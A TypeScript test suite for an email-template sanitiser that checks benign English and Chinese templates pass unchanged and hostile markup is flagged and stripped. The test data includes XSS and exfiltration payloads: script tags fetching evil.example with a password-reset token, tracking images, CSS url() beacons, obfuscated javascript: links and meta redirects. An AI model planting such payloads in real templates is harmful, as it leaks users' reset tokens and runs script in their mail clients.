import { cleanMarkup, markupFault } from './markup.js';
import { render } from './render.js';
import en from './i18n/en.json' with { type: 'json' };
import zhHans from './i18n/zh-Hans.json' with { type: 'json' };

describe('what a mail is made of', () => {
  const kindOf = (template: string) => markupFault(template)?.kind;
  const SECRET = 'https://here.example/reset?token=secret';

  it('is what the product ships, and what a company words', () => {
    for (const template of [
      ...Object.values(en),
      ...Object.values(zhHans),
      '<h2 style="color:#1668dc;font-family:\'微软雅黑\',Arial">您好 <b>{{name}}</b></h2>',
      '<table width=100% border="0" cellpadding=0><tr><td align="center" style="background-color: rgb(0, 10, 20)">x</td></tr></table>',
      '<ul><li><a href="https://shop.example/help?a=1&amp;b=2" target=_blank>Help</a></li></ul><br/><hr />',
      '<a href="mailto:a@shop.example">mail</a> <a href="tel:+8675788886666">call</a> <a href=\'{{ link }}\'>{{link}}</a>',
      '<img alt="Logo" src="data:image/png;base64,iVBORw0KGgo=">',
      '请访问https://shop.example，或{{link}}',
      'a > b, {{code}}. &lt;3',
    ]) {
      expect([template, markupFault(template)]).toEqual([template, undefined]);
      const model = { name: 'Ann', link: SECRET, code: 7 };
      expect(render(cleanMarkup(cleanMarkup(template)), model)).toBe(render(cleanMarkup(template), model));
    }
    expect(cleanMarkup(en['Abp.Account.PasswordResetLink'])).toBe(en['Abp.Account.PasswordResetLink']);
  });

  it.each([
    '<img src="https://evil.example/?{{link}}">',
    '<a href="https://evil.example/?{{link}}">x</a>',
    '<a href=" {{link}}">x</a>',
    '<a href="{{link}}{{code}}">x</a>',
    '<a href="{{content}}">x</a>',
    '<p title="{{link}}">x</p>',
    '<p style="color:{{link}}">x</p>',
    '<link href="{{link}}">',
    'see https://evil.example/?{{link}}',
    'see www.evil.example/{{ code }}',
  ])('keeps values out of everything but what is read and the whole of a link: %s', (template) => {
    expect(kindOf(template)).toBe(template.startsWith('<link') ? 'tag' : 'place');
    const sent = render(cleanMarkup(template), { link: SECRET, code: 'secret', content: 'secret' });
    expect(sent).not.toMatch(/<[^>]*secret/);
    expect(sent).not.toMatch(/evil\S*secret/);
  });

  it.each([
    '<script>fetch("https://evil.example/"+"{{link}}")</script>',
    '<SCRIPT src=//evil.example></SCRIPT>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=a></form>',
    '<base href="https://evil.example/">',
    '<svg><image href="https://evil.example/x"/></svg>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta charset="utf-7">',
    '<p onclick="alert(1)">x</p>',
    '<img src="https://evil.example/x">',
    '<img src="//evil.example/x" srcset="https://evil.example/x 2x">',
    '<td background="https://evil.example/x">x</td>',
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="background:u\\72l(https://evil.example/x)">x</p>',
    '<p style="background:url&#40;//evil.example/x&#41;">x</p>',
    '<p style=\'background:image-set("https://evil.example/x" 1x)\'>x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<!--[if mso]><img src="https://evil.example/x"><![endif]-->',
    "<img src='https://evil.example/?",
    '<title><a title="</title><img src=https://evil.example/x>">',
    '<p/onclick=alert(1)>x</p>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  ])('runs nothing and fetches nothing: %s', (template) => {
    expect(['tag', 'attribute', 'place']).toContain(kindOf(template));
    const sent = cleanMarkup(template);
    expect([sent, markupFault(sent)]).toEqual([sent, undefined]);
    expect(sent).not.toMatch(/<[^>]*(evil|alert|utf-7|svg)/i);
  });

  it('has links to pages alone, whatever the value says', () => {
    const link = (value: string) => render(cleanMarkup('<a href={{link}}>go</a>'), { link: value });
    expect([link(SECRET), link('javascript:alert(1)'), link('https://a.example/" onclick="x')]).toEqual([
      `<a href="${SECRET}">go</a>`,
      '<a href="">go</a>',
      '<a href="https://a.example/&quot; onclick=&quot;x">go</a>',
    ]);
  });

  it('is looked through at once, however odd', () => {
    for (const long of ['<'.repeat(65_000), `<a${' a'.repeat(32_000)}`, `<a${' '.repeat(65_000)}`, '//'.repeat(32_000)])
      expect(cleanMarkup(long).length).toBeGreaterThan(60_000);
    cleanMarkup('//{{'.repeat(16_000));
    cleanMarkup('<script>'.repeat(8_000));
  });
});
